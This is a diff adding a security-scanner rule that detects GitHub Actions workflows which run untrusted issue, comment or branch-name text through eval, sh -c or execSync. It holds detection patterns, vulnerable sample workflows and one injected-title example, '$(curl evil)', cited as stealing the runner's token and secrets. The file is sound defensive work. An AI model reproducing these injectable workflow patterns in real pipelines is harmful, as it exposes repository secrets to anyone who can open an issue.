@@ -1,0 +1,62 @@
+import { lookIn, type Value } from '../../server/rule/queries.ts';
+import { mapOfResource, objectRule, textAt } from '../_kubernetes.ts';
+import { holdsStrangersText } from '../_workflow-expressions.ts';
+import { file, steps, workflow } from '../_workflows.ts';
+
+const script = 'actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd';
+
+/** Commands that read a text as commands once more, up to the end of what they read. */
+const readAgain = /(?:^|[\s;&|(])(?:eval|(?:(?:ba|z|da|k)?sh|su|ssh|python[\d.]*|node|perl|ruby)\b[^\n;&|]*?[ \t]-\w*[ce])[ \t]+("[^"\n]*"|[^\s;&|'][^\n;&|]*)/gm;
+/** Calls of JavaScript that run a text as a command or as code. */
+const run = /\b(?:exec|execSync|eval|Function|exec\.exec|exec\.getExecOutput)\s*\(\s*(`[^`]*`|(?:[^;\n])*)/g;
+/** What strangers write, in the payload of a script of `actions/github-script`. */
+const payload =
+  /\bcontext\.payload\??\.(?:issue\??\.(?:title|body)|comment\??\.body|review\??\.body|discussion\??\.(?:title|body)|pull_request\??\.(?:title|body|head\??\.(?:ref|label))|head_commit\??\.message)\b|\bprocess\.env\.GITHUB_HEAD_REF\b/;
+
+export default [
+  objectRule({
+    id: 'input-validation/workflow-variable-run',
+    title: 'Text of strangers read as a command',
+    severity: 'high',
+    types: ['github_step'],
+    file,
+    what: 'Reports `eval`, `sh -c` and the like on variables with text that anybody can write (titles, bodies, branch names), and `exec` of the payload in `actions/github-script`.',
+    why: 'A variable is data until something reads it as a command again: then a title such as `$(curl evil)` runs on the runner, with its token and secrets.',
+    references: ['CWE-78', 'CWE-94', 'SI-10'],
+    noFix: 'The value has to be handed over as an argument of its own.',
+    check: (resource, tell, context) => {
+      const parts = (value: Value, pattern: RegExp, isForeign: (text: string) => boolean): void => {
+        if (value.kind !== 'string') return;
+        const { path, range } = value.origin;
+        const text = context.sources.document(path)?.text.slice(range.start, range.end) ?? '';
+        for (const match of text.matchAll(pattern)) {
+          if (!isForeign(match[1]!) || /(?:^|\n)[ \t]*(?:#|\/\/)[^\n]*$/.test(text.slice(0, match.index))) continue;
+          const lead = match[0].length - match[0].trimStart().replace(/^[;&|(]\s*/, '').length;
+          const origin = { path, range: { start: range.start + match.index + lead, end: range.start + match.index + match[0].trimEnd().length } };
+          tell({ kind: 'null', origin, at: origin }, `Text that strangers write is run as a command by "${resource.name}".`);
+        }
+      };
+      const named = (text: string): boolean => [...text.matchAll(/(?<!\\)\$\{?(\w+)/g)].some((one) => holdsStrangersText(resource, one[1]!, context));
+      for (const value of lookIn(mapOfResource(resource), 'run').values) parts(value, readAgain, named);
+      if (/^actions\/github-script@/.test(textAt(resource, 'uses') ?? ''))
+        for (const value of lookIn(mapOfResource(resource), 'with.script').values) parts(value, run, (text) => payload.test(text.startsWith('`') ? text : (text.split(/,\s*\[/)[0] ?? '')));
+    },
+    bad: workflow('issues', ...steps('- run: eval "echo $TITLE"', '       ^^^^^^^^^^^^^^^^^^', '  env:', '    TITLE: ${{ github.event.issue.title }}')),
+    good: workflow('issues', ...steps('- run: eval "echo $NUMBER"', '  env:', '    NUMBER: ${{ github.event.issue.number }}')),
+    more: [
+      {
+        file,
+        bad: workflow('pull_request', ...steps('- run: bash -c "git checkout $GITHUB_HEAD_REF"', `       ${'^'.repeat('bash -c "git checkout $GITHUB_HEAD_REF"'.length)}`)),
+        good: workflow('pull_request', ...steps('- run: git checkout "$GITHUB_HEAD_REF"')),
+      },
+      {
+        file,
+        bad: workflow(
+          'issues',
+          ...steps(`- uses: ${script}`, '  with:', '    script: execSync(`echo ${context.payload.issue.title}`)', `            ${'^'.repeat('execSync(`echo ${context.payload.issue.title}`'.length)}`),
+        ),
+        good: workflow('issues', ...steps(`- uses: ${script}`, '  with:', "    script: execFileSync('echo', [context.payload.issue.title])")),
+      },
+    ],
+  }),
+];
